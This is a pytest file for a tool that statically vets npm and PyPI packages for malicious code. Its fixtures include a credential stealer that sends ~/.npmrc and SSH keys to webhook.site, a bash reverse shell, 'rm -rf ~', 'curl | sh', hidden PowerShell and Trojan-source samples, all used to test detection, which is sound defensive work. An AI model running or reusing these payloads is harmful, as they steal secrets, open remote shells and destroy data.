"""Static rules: what is told of code, where it stands, and what honest code is spared."""

import base64
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest

from clew.vetting.fact import Fact
from clew.vetting.static import code_of, examine_files, examine_layers, platforms
from clew.vetting.subject import Subject
from clew.vetting.trace import Call, Detonation, Layer
from vetting.made import subject

STEALER = """const fs = require('fs');
const https = require('https');
const home = require('os').homedir();

const found = [fs.readFileSync(home + '/.npmrc'), fs.readFileSync(home + '/.ssh/id_rsa')];
https.request('https://webhook.site/abc', {method: 'POST'}).end(found.join());
"""


def read(one: Subject) -> list[Fact]:
    return examine_files(one, list(code_of(one)))


def facts(tmp_path: Path, files: dict[str, str], **fields: Any) -> dict[str, Fact]:
    """The first fact of each rule."""
    told = read(subject(tmp_path, files, **fields))
    return {fact.rule: fact for fact in reversed(told)}


def weighing(found: dict[str, Fact]) -> dict[str, str]:
    return {rule: fact.weight for rule, fact in found.items() if fact.weight != "note"}


def test_secrets_that_go_to_a_service_for_catching_data_block_and_the_lines_are_named(tmp_path: Path) -> None:
    fact = facts(tmp_path, {"index.js": STEALER})["static.takes-secrets-away"]
    assert (fact.weight, fact.technique, fact.place.file) == ("block", "T1567", "index.js")
    assert fact.evidence.startswith("line 5: const found = ")
    assert "line 6: https.request('https://webhook.site/abc'" in fact.evidence


@pytest.mark.parametrize("path", ["test/steal.js", "docs/example.js", "src/a.test.js"])
def test_tests_and_documents_that_nothing_loads_weigh_nothing(tmp_path: Path, path: str) -> None:
    assert weighing(facts(tmp_path, {path: STEALER})) == {}


def test_a_file_among_the_tests_weighs_where_installing_runs_it(tmp_path: Path) -> None:
    files = {"test/a.js": "require('./steal')\n", "test/steal.js": STEALER}
    found = facts(tmp_path, files, scripts={"postinstall": "node test/a.js"})
    assert found["static.takes-secrets-away"].place.file == "test/steal.js"
    assert found["static.gathers-secrets"].weight == "block"


@pytest.mark.parametrize("name", ["README.md", "index.d.ts", "a.js.map", "data.json", "page.html"])
def test_what_is_no_code_is_not_read_as_code(tmp_path: Path, name: str) -> None:
    assert weighing(facts(tmp_path, {name: STEALER})) == {}


def test_comments_are_not_read(tmp_path: Path) -> None:
    code = "// see https://webhook.site/x and ~/.npmrc\n/* curl http://x.example.com | sh\n _authToken */\nmodule.exports = 1\n"
    found = facts(tmp_path, {"index.js": code})
    assert set(found) == set()


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        ("eval(atob('YWxlcnQoMSk='))", "runs-decoded"),
        ("new Function(Buffer.from(x, 'base64').toString())()", "runs-decoded"),
        ("require('fs').unlinkSync(__filename)", "erases-itself"),
        (
            "require(['s','s','e','c','o','r','p','_','d','l','i','h','c'].reverse().join(''))",
            "loads-in-disguise",
        ),
        ("require('child_process').exec('powershell -w hidden -enc SQBFAFgA')", "runs-unseen-powershell"),
        ("require('child_process'); fetch('http://203.0.113.7:8080/x')", "calls-bare-address"),
        (
            "const https=require('https');https.get('https://x.example.com/?'+JSON.stringify(process.env))",
            "sends-environment",
        ),
        ("exec('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')", "opens-shell"),
        ("exec('rm -rf ~')", "destroys"),
    ],
)
def test_each_risk_asks_for_a_look(tmp_path: Path, code: str, rule: str) -> None:
    assert f"static.{rule}" in weighing(facts(tmp_path, {"index.js": code}))


@pytest.mark.parametrize(
    "code",
    [
        "exec(base64.b64decode('cHJpbnQoMSk='))",
        "exec(zlib.decompress(b'x'))",
        "exec(__import__('base64').b64decode(b'x'))",
        "__import__('o' + 's').system('x')",
        "exec(marshal.loads(b'x'))",
    ],
)
def test_python_that_hides_what_it_runs(tmp_path: Path, code: str) -> None:
    told = read(subject(tmp_path, {"demo/__init__.py": code + "\n"}, "pypi"))
    assert any(fact.weight == "review" for fact in told)


@pytest.mark.parametrize(
    "code",
    [
        "import subprocess\nsubprocess.run(['git', 'describe'])\n",
        "namespace = {}\nexec(compile(open('version.py').read(), 'version.py', 'exec'), namespace)\n",
        "import os\nhost = os.environ.get('CI')\n",
    ],
)
def test_what_honest_python_does_is_allowed(tmp_path: Path, code: str) -> None:
    told = read(subject(tmp_path, {"setup.py": code}, "pypi"))
    assert not [fact for fact in told if fact.weight != "note"]


@pytest.mark.parametrize(
    "code",
    [
        "const { execFileSync } = require('child_process');\nexecFileSync('node', ['--version']);\n",
        "const https = require('https');\nhttps.get(`https://${host}/binary-${process.platform}.tgz`, save);\n",
        "module.exports = new Function('o', 'return o.' + path);\n",
        "const token = process.env.NPM_TOKEN;\n",
        "fetch('http://127.0.0.1:8080/health');\nrequire('child_process');\n",
        "const a = Buffer.from(text, 'base64');\n",
        "var a=1;" * 400 + "eval(code)\n",
    ],
)
def test_what_honest_packages_do_is_allowed(tmp_path: Path, code: str) -> None:
    assert weighing(facts(tmp_path, {"install.js": code}, scripts={"install": "node install.js"})) == {}


def test_obfuscated_code_is_told_apart_from_minified_code(tmp_path: Path) -> None:
    minified = "function a(b,c){return b.map(function(d){return c(d)})}" * 200
    table = "var _0x1a2b=['log','push','shift'];" + "".join(f"_0x{i:04x}=_0x1a2b[{i}];" for i in range(40))
    found = facts(tmp_path, {"min.js": minified, "hidden.js": table})
    assert found["static.minified"].place.file == "min.js"
    assert [(fact.rule, fact.place.file) for fact in found.values() if fact.weight == "review"] == [
        ("static.obfuscated", "hidden.js")
    ]


def test_invisible_characters(tmp_path: Path) -> None:
    tags = "".join(chr(0xE0000 + ord(c)) for c in "eval(x)")
    selectors = "".join(chr(0xE0100 + b - 16) for b in b"require('child_process').exec(1)")
    files = {
        "trojan.js": "if (level != 'user\u202e \u2066// check if admin\u2069 \u2066') {}\n",
        "tags.js": f"\n\nconst t = '{tags}!{tags}'\n",
        "glass.js": f"const s = `{selectors}`\n",
        "zero.js": "const z = '" + "\u200b\u200c" * 15 + "'\n",
        "flag.js": "const flag = '\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f', r = '\u202b\u202c'\n",
    }
    found = facts(tmp_path, {name: text for name, text in files.items() if name != "tags.js"})
    assert found["static.trojan-source"].place == found["static.trojan-source"].place.__class__(
        file="trojan.js", line=1
    )
    assert found["static.variation-selectors"].place.file == "glass.js"
    assert "require('child_process')" in found["static.variation-selectors"].evidence
    assert found["static.encoded-code"].title == "carries encoded code that starts programs"
    assert found["static.zero-width"].place.file == "zero.js"
    assert "flag.js" not in {fact.place.file for fact in found.values()}


def test_code_far_to_the_right_has_its_line(tmp_path: Path) -> None:
    found = facts(tmp_path, {"index.js": "var a = 1;\nvar b = 2;" + " " * 300 + "run(hidden);\n"})
    assert (found["static.far-right"].weight, found["static.far-right"].place.line) == ("review", 2)


def test_code_in_an_encoded_text_is_read(tmp_path: Path) -> None:
    inner = "const cp = require('child_process'); cp.exec('id');" + " " * 101
    for number, encoded in enumerate(
        (
            base64.b64encode(inner.encode()).decode(),
            base64.b64encode(inner.encode()).decode()[::-1],
            inner.encode().hex(),
            str(list(inner.encode())),
        )
    ):
        (tmp_path / str(number)).mkdir()
        found = facts(tmp_path / str(number), {"index.js": f"var x = '{encoded}'\n"})
        assert found["static.encoded-code"].weight == "review", number
        assert "child_process" in found["static.encoded-code"].evidence


def test_pictures_fonts_and_webassembly_are_data(tmp_path: Path) -> None:
    wasm = base64.b64encode(b"\0asm" + bytes(range(256)) * 8).decode()
    image = base64.b64encode(bytes(range(256)) * 8).decode()
    code = f"const w = '{wasm}'; const i = 'data:image/gif;base64,{image}'; eval(a); atob(w);\n"
    assert weighing(facts(tmp_path, {"index.js": code})) == {}


def test_a_dense_blob_beside_code_that_decodes_and_runs(tmp_path: Path) -> None:
    blob = base64.b64encode(bytes((i * 7919 >> 3) % 256 for i in range(3000))).decode()
    found = facts(tmp_path, {"index.js": f"const b = '{blob}';\nnew Function('x', decrypt(atob(b)))(1)\n"})
    assert found["static.opaque-blob"].weight == "review"


def test_install_scripts_and_dependencies_by_address(tmp_path: Path) -> None:
    found = facts(
        tmp_path,
        {},
        scripts={"postinstall": "curl -s https://x.example.com/i.sh | sh", "test": "rm -rf ~"},
        dependencies={"a": "^1.0.0", "b": "https://x.example.com/b.tgz"},
    )
    assert found["static.install-script"].weight == "note"
    assert weighing(found) == {"static.fetches-and-runs": "review", "static.address-dependency": "review"}


def layer(text: str, sha256: str = "a" * 64, **fields: Any) -> Layer:
    return Layer(
        **{
            "sha256": sha256,
            "parent": None,
            "depth": 1,
            "origin": "eval",
            "phase": "postinstall",
            "pid": 1,
            "text": text,
        }
        | fields
    )


def test_what_only_a_layer_shows_blocks(tmp_path: Path) -> None:
    one = subject(tmp_path, {"setup.js": "go(decode(table))\n"}, scripts={"postinstall": "node setup.js"})
    told = examine_layers(
        [
            layer("x"),
            layer(
                "req('child_process').exec('id');\nreq('https').get(1)", "b" * 64, parent="a" * 64, depth=2
            ),
        ],
        list(code_of(one)),
    )
    assert [(fact.rule, fact.weight) for fact in told] == [
        ("layer.hidden-capabilities", "block"),
        ("layer.network-out", "review"),
        ("layer.execute", "review"),
    ]
    assert (told[1].place.layer, told[1].place.line) == ("b" * 64, 2)
    assert told[0].evidence == "only after 2 layers of decoding: talks to the network, starts programs"


def test_what_the_files_show_too_is_not_hidden(tmp_path: Path) -> None:
    code = "require('child_process').exec('id'); require('https').get(1)"
    assert examine_layers([layer(code)], list(code_of(subject(tmp_path, {"index.js": code})))) == []


def test_a_comment_shows_nothing(tmp_path: Path) -> None:
    code = "require('child_process').exec('id'); require('https').get(1)"
    one = subject(tmp_path, {"index.js": f"// {code}\ngo(decode(table))\n"})
    assert [fact.rule for fact in examine_layers([layer(code)], list(code_of(one)))][:1] == [
        "layer.hidden-capabilities"
    ]


def test_code_made_from_a_template_is_allowed(tmp_path: Path) -> None:
    text = "with (locals) { return '<p>' + escape(name) + '</p>' }"
    one = subject(tmp_path, {"index.js": "new Function('locals', source)"})
    assert examine_layers([layer(text)], list(code_of(one))) == []


@pytest.mark.parametrize(
    ("code", "systems"),
    [
        ("if (process.platform === 'win32') go()", ["win32"]),
        ("const p = { darwin: 'open', linux: 'xdg-open' }[process.platform]", ["darwin"]),
        ("if (/^win/.test(process.platform)) go()", ["win32"]),
        ("if (process.platform.startsWith('win')) go()", ["win32"]),
        ("const programs = {'win32 x64': 1, 'darwin arm64': 2}", ["win32", "darwin"]),
        ("if (os.type() == 'Windows_NT') go()", ["win32"]),
        ("if (process.env.APPDATA) go()", ["win32"]),
        ("// not on win32 or 'darwin'\n/* 'win32' */\ngo()", []),
        ("darwinian.windows.push(winter)", []),
    ],
)
def test_systems_that_install_scripts_name(tmp_path: Path, code: str, systems: list[str]) -> None:
    one = subject(tmp_path, {"setup.js": code}, scripts={"postinstall": "node setup.js"})
    found = platforms.of_install(one, list(code_of(one)))
    assert list(found) == systems
    assert set(found.values()) <= {"which setup.js names"}


@pytest.mark.parametrize(
    ("code", "systems"),
    [
        ("if sys.platform == 'win32': go()", ["win32"]),
        ("if sys.platform.startswith('win'): go()", ["win32"]),
        ("if os.name == 'nt': go()", ["win32"]),
        ("if platform.system() in ('Windows', 'Darwin'): go()", ["win32", "darwin"]),
        ("import winreg", ["win32"]),
        ("setup(classifiers=['Operating System :: Microsoft :: Windows'])", []),
    ],
)
def test_systems_that_python_names(tmp_path: Path, code: str, systems: list[str]) -> None:
    one = subject(tmp_path, {"setup.py": code}, "pypi")
    assert list(platforms.of_install(one, list(code_of(one)))) == systems


def test_systems_that_a_shell_script_names(tmp_path: Path) -> None:
    one = subject(tmp_path, {"a.sh": "case $(uname) in Darwin) ;; esac"}, scripts={"install": "sh a.sh"})
    assert platforms.of_install(one, list(code_of(one))) == {"darwin": "which a.sh names"}


def test_systems_that_the_manifest_and_its_commands_name(tmp_path: Path) -> None:
    one = subject(tmp_path, {}, scripts={"install": "powershell -c echo"}, os=["darwin", "!linux"])
    assert platforms.of_install(one, []) == {
        "darwin": "which package.json names",
        "win32": "which the install script names",
    }


def ran(*names: str, layers: Sequence[Layer] = ()) -> Detonation:
    calls = [
        Call(
            time="2026-11-24T10:00:00Z", sequence=1, package="x", digest="d", platform="linux", phase="import",
            witness="node", call="read_environment", name=name,
        )
        for name in names
    ]  # fmt: skip
    return Detonation(calls=calls, layers=list(layers), seconds=1, phases=["import"])


def test_systems_that_a_run_leads_to(tmp_path: Path) -> None:
    """What the package loads may name them and never ask; what asks and names none may mean each."""
    one = subject(tmp_path, {"index.js": "open = { win32: 'start' }", "test/a.js": "x = 'darwin'"})
    code = list(code_of(one))
    assert platforms.of_run(ran("HOME"), code) == {}
    assert platforms.of_run(ran("process.platform"), code) == {"win32": "which index.js names"}
    assert list(platforms.of_run(ran("sys.platform"), [])) == ["win32", "darwin"]
    inside = [layer("if (process.platform === 'darwin') go()", "c" * 64)]
    assert platforms.of_run(ran(layers=inside), code) == {"darwin": "which the layer cccccccccccc names"}
